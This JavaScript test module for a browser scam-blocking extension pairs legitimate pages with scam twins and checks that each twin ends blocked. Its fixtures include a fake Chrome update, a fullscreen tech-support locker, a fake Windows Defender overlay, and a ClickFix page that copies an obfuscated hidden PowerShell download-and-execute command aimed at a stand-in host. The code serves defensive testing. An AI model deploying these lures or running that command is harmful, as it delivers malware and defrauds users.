'use strict';
/* Issue 20: the same browser mechanics in a legitimate page and in its scam
 * twin. A download of a program, the camera, autoplaying sound, keys kept
 * from the browser, full screen and a full-window layer are all things
 * ordinary sites do; the twins use them to frighten or trap. The real
 * extension and the real host must let the first group work after the
 * person's own click (no block, no banner) and end each twin on
 * blocked.html. Pages are written for this test; every number is
 * fictional. Each page reports what it got to /__report on its own host
 * (sendBeacon), so the test knows what happened after the tab moved. */
const assert = require('node:assert/strict');
const fs = require('node:fs');
const path = require('node:path');
const h = require('./harness.js');
const { closeOthers, logEntries } = require('./suite.js');

const HOSTS = {
  vlc: 'www.videolan.org',
  sevenzip: 'www.7-zip.org',
  meet: 'meet.kaigi-room.jp',
  game: 'play.retro-snake.jp',
  travel: 'www.tabiyori-travel.jp',
  update: 'chrome-update.browser-secure.top',
  camcheck: 'camera-check.meet-fix.help',
  locker: 'play.free-puzzle-games.xyz',
  overlay: 'www.oishii-recipe-blog.jp',
};
const origin = (k) => `https://${HOSTS[k]}`;
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

const REPORT_JS = `
  const report = (k) => { try { navigator.sendBeacon('/__report?k=' + encodeURIComponent(k)); } catch (e) {} };
  report('ready');`;

// A stand-in program: big enough that the download is still running when
// AlertGuard sees it, small enough to be quick.
const PROGRAM = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(256 * 1024)]);

/** wav makes a short sine tone (16-bit mono PCM) for the ringtone. */
function wav(seconds = 1, hz = 660, rate = 8000) {
  const n = seconds * rate;
  const b = Buffer.alloc(44 + n * 2);
  b.write('RIFF', 0); b.writeUInt32LE(36 + n * 2, 4); b.write('WAVE', 8); b.write('fmt ', 12);
  b.writeUInt32LE(16, 16); b.writeUInt16LE(1, 20); b.writeUInt16LE(1, 22); b.writeUInt32LE(rate, 24);
  b.writeUInt32LE(rate * 2, 28); b.writeUInt16LE(2, 32); b.writeUInt16LE(16, 34); b.write('data', 36); b.writeUInt32LE(n * 2, 40);
  for (let i = 0; i < n; i++) b.writeInt16LE(Math.round(8000 * Math.sin(2 * Math.PI * hz * i / rate)), 44 + i * 2);
  return b;
}

// --- legitimate pages ---

const VLC_PAGE = `<!doctype html><html lang="en"><head><title>Official download of VLC media player, the best Open Source player - VideoLAN</title></head><body>
  <nav><a href="/">VideoLAN</a> · <a href="/vlc/">VLC</a> · <a href="/projects/">Projects</a> · <a href="/contribute.html">Contribute</a> · <a href="/support/">Support</a></nav>
  <h1>VLC media player</h1>
  <p>VLC is a free and open source cross-platform multimedia player and framework that plays most multimedia files as well as DVDs,
  Audio CDs, VCDs, and various streaming protocols.</p>
  <p><a id="dl" class="download" href="/vlc/vlc-3.0.21-win64.exe">Download VLC</a> Version 3.0.21 · Windows 64bit · 40 MB</p>
  <p>Other systems: <a href="/vlc/download-macosx.html">macOS</a> · <a href="/vlc/#download">Linux</a> · <a href="/vlc/download-android.html">Android</a></p>
  <h2>Simple, fast and powerful</h2>
  <ul><li>Plays everything: files, discs, webcams, devices and streams.</li><li>Plays most codecs with no codec packs needed.</li>
  <li>Runs on all platforms.</li><li>Completely free: no spyware, no ads and no user tracking.</li></ul>
  <footer>VideoLAN, a project and a non-profit organization. <a href="/legal.html">Legal</a> · <a href="/contact.html">Contact us</a></footer>
  <script>${REPORT_JS}
    document.getElementById('dl').addEventListener('click', () => report('clicked'));
  </script></body></html>`;

const SEVENZIP_PAGE = `<!doctype html><html lang="en"><head><title>7-Zip</title></head><body>
  <h1>7-Zip</h1>
  <p>7-Zip is a file archiver with a high compression ratio.</p>
  <h2>Download 7-Zip 24.09 (2024-11-29):</h2>
  <table border="1"><tr><th>Link</th><th>Type</th><th>Windows</th><th>Size</th></tr>
  <tr><td><a id="dl" href="/a/7z2409-x64.exe">Download</a></td><td>.exe</td><td>64-bit x64</td><td>1.6 MB</td></tr>
  <tr><td><a id="dl32" href="/a/7z2409.exe">Download</a></td><td>.exe</td><td>32-bit x86</td><td>1.3 MB</td></tr>
  <tr><td><a href="/a/7z2409-arm64.exe">Download</a></td><td>.exe</td><td>ARM64</td><td>1.6 MB</td></tr></table>
  <p>License: 7-Zip is free software with open source. Most of the code is under the GNU LGPL license.</p>
  <p>Supported formats: packing / unpacking: 7z, XZ, BZIP2, GZIP, TAR, ZIP and WIM. Unpacking only: ARJ, CAB, CHM, CPIO, DEB, DMG, ISO, RAR, RPM.</p>
  <script>${REPORT_JS}
    document.getElementById('dl').addEventListener('click', () => report('clicked'));
    document.getElementById('dl32').addEventListener('click', () => report('clicked'));
  </script></body></html>`;

// A meeting room: the ringtone plays on load; "Join" turns the camera
// preview on; the dial-in number is for people without a microphone.
const MEET_PAGE = `<!doctype html><html lang="ja"><head><title>定例ミーティング - 会議ルーム</title></head><body>
  <header>会議ルーム</header>
  <h1>定例ミーティング（企画部）</h1>
  <p>主催者: 山田 花子 さん · 10:00〜11:00</p>
  <video id="preview" autoplay muted playsinline width="320" height="240"></video>
  <p><button id="join">参加する</button> カメラとマイクの確認画面が開きます。</p>
  <p>電話で参加: 03-0000-1234（会議ID 123 456 789）</p>
  <p>参加できないときは、主催者に連絡してください。</p>
  <audio id="ring" autoplay loop src="/ringtone.wav"></audio>
  <script>${REPORT_JS}
    const ring = document.getElementById('ring');
    ring.addEventListener('playing', () => report('ringing'), { once: true });
    document.getElementById('join').addEventListener('click', () => {
      navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then((s) => {
        document.getElementById('preview').srcObject = s;
        report('camera-' + s.getVideoTracks().length);
        ring.pause();
      }, (e) => report('camera-refused-' + e.name));
    });
  </script></body></html>`;

// A small game: the arrow keys steer the snake (the page keeps them from
// scrolling), a sound on each step, full screen on Play.
const GAME_PAGE = `<!doctype html><html lang="ja"><head><title>レトロスネーク - ブラウザで遊べる無料ゲーム</title></head><body>
  <h1>レトロスネーク</h1><p>矢印キーでヘビを動かして、りんごを集めよう。「プレイ」を押すと全画面で始まります。</p>
  <canvas id="board" width="320" height="320" style="background:#111"></canvas>
  <p><button id="play">プレイ</button></p>
  <p>スコアはこのブラウザにだけ保存されます。</p>
  <script>${REPORT_JS}
    let audio = null, dir = 'right';
    document.addEventListener('fullscreenchange', () => { if (document.fullscreenElement) report('fullscreen'); });
    window.addEventListener('keydown', (e) => {
      if (!e.key.startsWith('Arrow')) return;
      e.preventDefault();
      dir = e.key.slice(5).toLowerCase();
      report('arrow-' + dir + (e.defaultPrevented ? '-kept' : ''));
      if (audio) { const o = audio.createOscillator(); o.frequency.value = 440; o.connect(audio.destination); o.start(); o.stop(audio.currentTime + 0.05); report('beep'); }
    });
    document.getElementById('play').addEventListener('click', () => {
      audio = new AudioContext();
      audio.resume().then(() => report('sound-' + audio.state));
      document.getElementById('board').requestFullscreen().then(() => report('fullscreen-resolved'), (e) => report('fullscreen-refused-' + e.name));
    });
  </script></body></html>`;

// A travel site's cookie layer: fixed, covering the window, until the
// person chooses.
const TRAVEL_PAGE = `<!doctype html><html lang="ja"><head><title>国内ツアー・ホテル予約 | たびより</title>
  <style>#consent{position:fixed;inset:0;z-index:1000;background:rgba(0,0,0,.6);display:flex;align-items:center;justify-content:center}
  #consent .box{background:#fff;max-width:520px;padding:24px;font-size:16px}</style></head><body>
  <header><a href="/">たびより</a> · <a href="/tour/">ツアー</a> · <a href="/hotel/">ホテル</a> · <a href="/help/">ヘルプ</a></header>
  <h1>秋の京都・奈良 2日間</h1><p>紅葉の名所をめぐるバスツアー。大人 おひとり 19,800円から。</p>
  <p>ご予約・お問い合わせ: たびよりサポートデスク 03-0000-5678（9:00〜18:00）</p>
  <div id="consent" role="dialog" aria-label="Cookie の設定"><div class="box">
    <h2>Cookie の使用について</h2>
    <p>当サイトでは、サービスの向上と広告の表示のために Cookie を使用します。「同意する」を押すと、Cookie の使用に同意したことになります。
    設定はいつでも「Cookie 設定」から変更できます。ご不明な点は、たびよりサポートデスク 03-0000-5678 までお問い合わせください。</p>
    <button id="accept">同意する</button> <button id="settings">Cookie 設定</button> <button id="reject">必須のみ</button>
  </div></div>
  <script>${REPORT_JS}
    document.getElementById('accept').addEventListener('click', () => {
      document.cookie = 'consent=all; path=/; max-age=31536000';
      document.getElementById('consent').remove();
      report('accepted');
    });
  </script></body></html>`;

// --- their scam twins ---

// A fake browser update on a host Chrome does not own: the page pushes a
// program's download at once, and the button starts it again.
const UPDATE_PAGE = `<!doctype html><html lang="ja"><head><title>Google Chrome の更新</title></head><body>
  <h1>Google Chrome</h1>
  <h2>お使いのブラウザは古くなっています。今すぐ更新してください</h2>
  <p>Your browser is out of date — update required. このバージョンの Chrome では、このページを表示できません。
  最新の更新プログラムをインストールして続行してください。</p>
  <p><a id="dl" href="/download/ChromeSetup.exe">今すぐ更新 / Update Chrome</a></p>
  <p>ダウンロードは自動的に始まります。始まらないときは「今すぐ更新」を押してください。</p>
  <p>© 2026 Google LLC</p>
  <script>${REPORT_JS}
    document.getElementById('dl').addEventListener('click', () => report('tried'));
    // The push: the download starts by itself, as the page says.
    setTimeout(() => document.getElementById('dl').click(), 0);
  </script></body></html>`;

// ClickFix: a "camera check" whose button puts a PowerShell command on the
// clipboard. The command is put together at run time, as kits do.
const CAMCHECK_PAGE = `<!doctype html><html lang="en"><head><title>Camera check - Meeting</title></head><body>
  <h1>Your camera is not working</h1>
  <p>The meeting could not start your camera. To fix your camera press Win+R, Ctrl+V, Enter.</p>
  <p><button id="fix">Fix camera</button></p>
  <ol><li>Press Win+R</li><li>Press Ctrl+V</li><li>Press Enter</li></ol>
  <script>${REPORT_JS}
    const cmd = ['power', 'shell -w hidden -c "iex (irm https://camera-fix.meet-fix.help/c)"'].join('');
    document.getElementById('fix').addEventListener('click', () => {
      navigator['clip' + 'board']['write' + 'Text'](cmd).then(() => report('resolved'), (e) => report('refused-' + e.name));
      report('tried');
    });
  </script></body></html>`;

// A "game" whose Start button locks the screen: full screen, keyboard
// lock, and a Microsoft warning with a number to call.
const LOCKER_PAGE = `<!doctype html><html lang="ja"><head><title>無料パズルゲーム</title></head><body>
  <h1>無料パズルゲーム</h1><p>ピースをそろえて絵を完成させよう。「スタート」を押して始めます。</p>
  <p><button id="start">スタート</button></p>
  <script>${REPORT_JS}
    document.addEventListener('fullscreenchange', () => { if (document.fullscreenElement) report('fullscreen'); });
    document.getElementById('start').addEventListener('click', () => {
      document.body.insertAdjacentHTML('afterbegin', '<div style="background:#0078d7;color:#fff;padding:40px"><h1>Microsoft Windows セキュリティ警告</h1>' +
        '<p>お使いのコンピュータはロックされました。トロイの木馬型スパイウェアが検出されました。個人情報が盗まれています。</p>' +
        '<p>Microsoft サポートに今すぐお電話ください: 050-0000-1111（無料）。このページを閉じないでください。</p></div>');
      document.documentElement.requestFullscreen().then(() => report('fullscreen-resolved'), () => report('fullscreen-refused'));
      if (navigator.keyboard) navigator.keyboard.lock().then(() => report('keyboard-lock'), () => report('keyboard-lock-refused'));
      report('tried');
    });
  </script></body></html>`;

// A recipe blog with a full-window "Windows Defender" layer put over it a
// moment after load, as an injected script does.
const OVERLAY_PAGE = `<!doctype html><html lang="ja"><head><title>かんたん肉じゃがの作り方 | おいしいレシピ帳</title>
  <style>#ag-x{position:fixed;inset:0;z-index:99999;background:#0b3d91;color:#fff;padding:48px;font-size:20px}</style></head><body>
  <h1>かんたん肉じゃがの作り方</h1><p>じゃがいも 3個、玉ねぎ 1個、牛肉 200g。しょうゆとみりんで甘辛く煮ます。</p>
  <p>材料を切ったら、鍋で牛肉を炒め、野菜を加えて 15分ほど煮ます。</p>
  <script>${REPORT_JS}
    setTimeout(() => {
      const d = document.createElement('div'); d.id = 'ag-x';
      d.innerHTML = '<h1>Windows Defender - セキュリティ警告</h1><p>お使いのPCはウイルスに感染しています。' +
        '個人情報とパスワードが危険にさらされています。</p><p>Windows サポートに今すぐお電話ください: 050-0000-0000</p>' +
        '<p>Windows Defender: your PC is infected, call 050-0000-0000</p><button>閉じる</button>';
      document.body.appendChild(d);
      report('overlay');
    }, 1000);
  </script></body></html>`;

/** program answers like a download server: the length, ranges (Firefox
 * resumes a paused download with a Range request) and a program's type. */
function program(body) {
  return (req, res) => {
    req.resume();
    const head = { 'content-type': 'application/x-msdownload', 'accept-ranges': 'bytes', 'cache-control': 'no-store' };
    const m = /^bytes=(\d+)-(\d*)$/.exec(req.headers.range || '');
    if (m) {
      const start = Number(m[1]);
      const end = m[2] ? Math.min(Number(m[2]), body.length - 1) : body.length - 1;
      if (start >= body.length || start > end) { res.writeHead(416, { 'content-range': `bytes */${body.length}` }).end(); return; }
      res.writeHead(206, { ...head, 'content-length': end - start + 1, 'content-range': `bytes ${start}-${end}/${body.length}` });
      res.end(body.subarray(start, end + 1));
      return;
    }
    res.writeHead(200, { ...head, 'content-length': body.length });
    res.end(body);
  };
}

/** streamed answers as a mirror that makes the file as it sends it: no
 * length, no ranges (chunked transfer encoding). */
function streamed(body) {
  return (req, res) => {
    req.resume();
    res.writeHead(200, { 'content-type': 'application/x-msdownload', 'cache-control': 'no-store' });
    res.write(body.subarray(0, 4096));
    setTimeout(() => res.end(body.subarray(4096)), 50);
  };
}

/** pages writes the test pages and returns serveCorpus's extra pages and
 * the reports each host's pages sent (host → list of keys). */
function pages() {
  const dir = h.tmpdir('ag-mech-');
  const reports = new Map();
  const file = (name, body) => { const f = path.join(dir, name); fs.writeFileSync(f, body); return f; };
  const extra = {};
  for (const host of Object.values(HOSTS)) {
    reports.set(host, []);
    extra[host + '/__report'] = (req, res, u) => {
      reports.get(host).push(u.searchParams.get('k'));
      req.resume();
      res.writeHead(204).end();
    };
  }
  extra[HOSTS.vlc + '/vlc/download-windows.html'] = file('vlc.html', VLC_PAGE);
  extra[HOSTS.vlc + '/vlc/vlc-3.0.21-win64.exe'] = program(PROGRAM);
  extra[HOSTS.sevenzip + '/download.html'] = file('7zip.html', SEVENZIP_PAGE);
  extra[HOSTS.sevenzip + '/a/7z2409-x64.exe'] = program(PROGRAM);
  extra[HOSTS.sevenzip + '/a/7z2409.exe'] = streamed(PROGRAM);
  extra[HOSTS.meet + '/j/123456789'] = file('meet.html', MEET_PAGE);
  extra[HOSTS.meet + '/ringtone.wav'] = file('ringtone.wav', wav());
  extra[HOSTS.game + '/'] = file('game.html', GAME_PAGE);
  extra[HOSTS.travel + '/tour/kyoto-nara'] = file('travel.html', TRAVEL_PAGE);
  extra[HOSTS.update + '/'] = file('update.html', UPDATE_PAGE);
  extra[HOSTS.update + '/download/ChromeSetup.exe'] = program(PROGRAM);
  extra[HOSTS.camcheck + '/'] = file('camcheck.html', CAMCHECK_PAGE);
  extra[HOSTS.locker + '/'] = file('locker.html', LOCKER_PAGE);
  extra[HOSTS.overlay + '/recipe/nikujaga'] = file('overlay.html', OVERLAY_PAGE);
  return { extra, reports, dir };
}

const SETTLE_MS = 1500; // the page is judged at load; the person acts after that

async function waitReport(reports, key, k, ms = 8000) {
  return h.waitFor(async () => reports.get(HOSTS[key]).includes(k), ms, 50);
}

async function open(browser, url) {
  const page = await browser.newPage();
  page.on('dialog', (d) => d.dismiss().catch(() => {}));
  await page.goto(url, { waitUntil: 'domcontentloaded', timeout: 15000 }).catch(() => {});
  return page;
}

const landed = (dir, name) => h.waitFor(async () => fs.existsSync(path.join(dir, name)) && fs.statSync(path.join(dir, name)).size === PROGRAM.length, 15000, 100);

/* The cases. Each legitimate case's act() is what the person does and
 * what the page must then have got; each twin's act() is the person's
 * click (skipped when the twin is already blocked at load) and its
 * check() what the page must not have got. */
const LEGIT = [
  { id: 'vlc', name: 'a media player\'s download page (VideoLAN, "for Windows"): the click on Download gets the .exe', path: '/vlc/download-windows.html',
    async act(page, c, reports) {
      await page.click('#dl');
      assert.ok(await waitReport(reports, 'vlc', 'clicked'));
      assert.ok(await landed(c.downloadDir, 'vlc-3.0.21-win64.exe'), `the program was downloaded: ${fs.readdirSync(c.downloadDir)}`);
    } },
  { id: 'sevenzip', name: 'an archiver\'s download page (7-Zip): the click on Download gets the .exe', path: '/download.html',
    async act(page, c, reports) {
      await page.click('#dl');
      assert.ok(await waitReport(reports, 'sevenzip', 'clicked'));
      assert.ok(await landed(c.downloadDir, '7z2409-x64.exe'), `the program was downloaded: ${fs.readdirSync(c.downloadDir)}`);
    } },
  { id: 'sevenzip-streamed', host: 'sevenzip', name: 'the same page\'s 32-bit .exe, sent by a mirror with no length (chunked): the click gets it', path: '/download.html',
    async act(page, c, reports) {
      await page.click('#dl32');
      assert.ok(await waitReport(reports, 'sevenzip', 'clicked'));
      assert.ok(await landed(c.downloadDir, '7z2409.exe'), `the program was downloaded: ${fs.readdirSync(c.downloadDir)}`);
    } },
  { id: 'meet', name: 'a video-meeting join page (ringtone on load, camera preview after Join, dial-in 03-0000-1234)', path: '/j/123456789',
    async act(page, c, reports) {
      assert.ok(await waitReport(reports, 'meet', 'ringing'), `the ringtone played: ${reports.get(HOSTS.meet)}`);
      await page.click('#join');
      assert.ok(await waitReport(reports, 'meet', 'camera-1', 10000), `the camera preview started: ${reports.get(HOSTS.meet)}`);
    } },
  { id: 'game', name: 'an HTML5 game that keeps the arrow keys, beeps and goes full screen after Play', path: '/',
    async act(page, c, reports) {
      await page.click('#play');
      assert.ok(await waitReport(reports, 'game', 'fullscreen', 10000), `full screen: ${reports.get(HOSTS.game)}`);
      if (c.webAudio) assert.ok(await waitReport(reports, 'game', 'sound-running'), `sound: ${reports.get(HOSTS.game)}`);
      await page.keyboard.press('ArrowLeft');
      await page.keyboard.press('ArrowUp');
      assert.ok(await waitReport(reports, 'game', 'arrow-up-kept'), `the page kept the arrow keys: ${reports.get(HOSTS.game)}`);
      if (c.webAudio) assert.ok(await waitReport(reports, 'game', 'beep'), `a beep: ${reports.get(HOSTS.game)}`);
      assert.ok(await page.evaluate(() => !!document.fullscreenElement), 'still full screen');
    },
    async after(page) { await page.evaluate(() => document.exitFullscreen().catch(() => {})).catch(() => {}); } },
  { id: 'travel', name: 'a travel site\'s full-window cookie layer that gives the support line; the click on 同意する closes it', path: '/tour/kyoto-nara',
    async act(page, c, reports) {
      await page.click('#accept');
      assert.ok(await waitReport(reports, 'travel', 'accepted'));
      assert.equal(await page.evaluate(() => !!document.getElementById('consent')), false, 'the layer is gone');
    } },
];

const SCAM = [
  { id: 'update', name: 'a fake Chrome update on a foreign host that pushes an .exe download: blocked, nothing lands', path: '/',
    async act(page) { await page.click('#dl'); },
    async check(c, reports) {
      if (!reports.get(HOSTS.update).includes('tried')) console.log('update: blocked before its download started');
      await sleep(2000);
      assert.deepEqual(fs.readdirSync(c.downloadDir).filter((f) => f.startsWith('ChromeSetup')), [], 'the program is not in the download folder');
    } },
  { id: 'camcheck', name: 'a ClickFix "camera check" whose button copies a PowerShell command: blocked, the command not written', path: '/',
    async act(page, c, reports) {
      await page.click('#fix');
      assert.ok(await waitReport(reports, 'camcheck', 'tried'));
    },
    async check(c, reports, clicked) {
      if (clicked) assert.ok(reports.get(HOSTS.camcheck).includes('tried'), `the page made its write: ${reports.get(HOSTS.camcheck)}`);
      await sleep(500);
      assert.equal(reports.get(HOSTS.camcheck).includes('resolved'), false, `the write did not succeed: ${reports.get(HOSTS.camcheck)}`);
    } },
  { id: 'locker', name: 'a locker "game" whose Start takes full screen and the keyboard and shows a Microsoft warning with a number', path: '/',
    async act(page, c, reports) {
      await page.click('#start');
      assert.ok(await waitReport(reports, 'locker', 'tried'));
    },
    async check(c, reports, clicked) {
      if (clicked) assert.ok(reports.get(HOSTS.locker).includes('tried'), `the page made its requests: ${reports.get(HOSTS.locker)}`);
      await sleep(500);
      const got = reports.get(HOSTS.locker).filter((k) => k === 'fullscreen' || k === 'fullscreen-resolved' || k === 'keyboard-lock');
      assert.deepEqual(got, [], 'no full screen, no keyboard lock');
    } },
  { id: 'overlay', name: 'a full-window "Windows Defender: your PC is infected, call 050-0000-0000" layer over a recipe page', path: '/recipe/nikujaga',
    async act() {},
    async check(c, reports) { assert.ok(reports.get(HOSTS.overlay).includes('overlay'), 'the layer was put up'); } },
];

/** hostSaid sums up what the host logged for a host name (for messages). */
function hostSaid(c, host) {
  try {
    return logEntries(c.bin, c.dataDir).filter((e) => e.url.includes(`//${host}/`)).reverse()
      .map((e) => `${e.verdict} ${e.score} [${e.signatures.join(', ')}]`).join('; ') || 'nothing logged';
  } catch (err) {
    return `log not read: ${err.message}`;
  }
}

/** register adds the tests. ctx() gives { browser, findBlocked(ms),
 * downloadDir, bin, dataDir, webAudio (an AudioContext runs in this
 * headless browser) }. todo maps a case id to the reason it is
 * marked todo in this browser (the host's current verdict, written beside
 * it in the test file), and note maps a case id to a note added to its
 * name (a mechanic the browser lacks). */
function register(test, ctx, name, reports, { todo = {}, note = {} } = {}) {
  const title = (cs, kind) => `${name}: ${kind}: ${cs.name}${note[cs.id] ? ` (${note[cs.id]})` : ''}`;
  const opts = (cs) => (todo[cs.id] ? { todo: todo[cs.id] } : {});
  for (const cs of LEGIT) {
    const key = cs.host || cs.id;
    test(title(cs, 'allowed'), opts(cs), async () => {
      const c = ctx();
      await closeOthers(c.browser);
      reports.get(HOSTS[key]).length = 0;
      const page = await open(c.browser, origin(key) + cs.path);
      assert.ok(await waitReport(reports, key, 'ready'), 'the page ran');
      await sleep(SETTLE_MS);
      await page.bringToFront();
      try {
        await cs.act(page, c, reports);
        await sleep(2500); // a verdict on what the click did comes within this
        assert.equal(await c.findBlocked(10), null, `${cs.id} was blocked; the host said: ${hostSaid(c, HOSTS[key])}`);
        assert.ok(!page.isClosed(), `${cs.id}: tab closed`);
        assert.equal(await page.evaluate(() => !!document.querySelector('alertguard-banner')), false,
          `${cs.id}: warn banner shown; the host said: ${hostSaid(c, HOSTS[key])}`);
      } finally {
        if (cs.after) await cs.after(page);
      }
    });
  }
  for (const cs of SCAM) {
    test(title(cs, 'blocked'), opts(cs), async () => {
      const c = ctx();
      await closeOthers(c.browser);
      reports.get(HOSTS[cs.id]).length = 0;
      const page = await open(c.browser, origin(cs.id) + cs.path);
      assert.ok(await waitReport(reports, cs.id, 'ready'), 'the page ran');
      // A twin may already be blocked at load; else the person clicks.
      let blocked = await c.findBlocked(SETTLE_MS);
      const clicked = !blocked;
      if (clicked) {
        await page.bringToFront();
        await cs.act(page, c, reports);
        blocked = await c.findBlocked(15000);
      } else console.log(`${name}: ${cs.id}: blocked at load`);
      assert.ok(blocked, `${cs.id} was not blocked (${reports.get(HOSTS[cs.id])}); the host said: ${hostSaid(c, HOSTS[cs.id])}`);
      await cs.check(c, reports, clicked);
    });
  }
}

module.exports = { HOSTS, origin, pages, register, LEGIT, SCAM };
